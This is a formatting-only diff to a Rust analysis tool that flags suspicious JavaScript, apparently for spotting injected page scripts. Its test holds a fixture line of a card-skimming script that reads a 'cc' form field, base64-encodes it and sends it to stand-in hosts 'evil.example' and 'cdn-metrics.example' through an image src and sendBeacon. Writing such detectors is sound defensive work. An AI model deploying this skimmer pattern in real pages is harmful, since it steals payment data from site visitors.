@@ -244,7 +244,8 @@ impl<'a> Visit<'a> for Features {
     }
 
     fn visit_array_expression(&mut self, it: &ArrayExpression<'a>) {
-        let strings = it.elements.iter().filter(|e| matches!(e.as_expression(), Some(Expression::StringLiteral(_)))).count();
+        let strings =
+            it.elements.iter().filter(|e| matches!(e.as_expression(), Some(Expression::StringLiteral(_)))).count();
         if strings >= LONG_STRING_ARRAY {
             self.long_string_arrays += 1;
         }
@@ -270,7 +271,13 @@ mod tests {
             "{old}document.forms[0].addEventListener('submit',function(){{var d=btoa(document.getElementById('cc').value);new Image().src='https://evil.example/c?d='+d;navigator.sendBeacon('//cdn-metrics.example/b',d)}});"
         );
         let a = analyze(Some(old), &new);
-        for h in ["reads document.forms", "reads input values (.value)", "sets an image/script src", "builds a URL", "sendBeacon"] {
+        for h in [
+            "reads document.forms",
+            "reads input values (.value)",
+            "sets an image/script src",
+            "builds a URL",
+            "sendBeacon",
+        ] {
             assert!(a.hints.iter().any(|x| x.contains(h)), "{h}: {:?}", a.hints);
         }
         assert!(!a.hints.iter().any(|x| x.contains("eval")), "{:?}", a.hints);
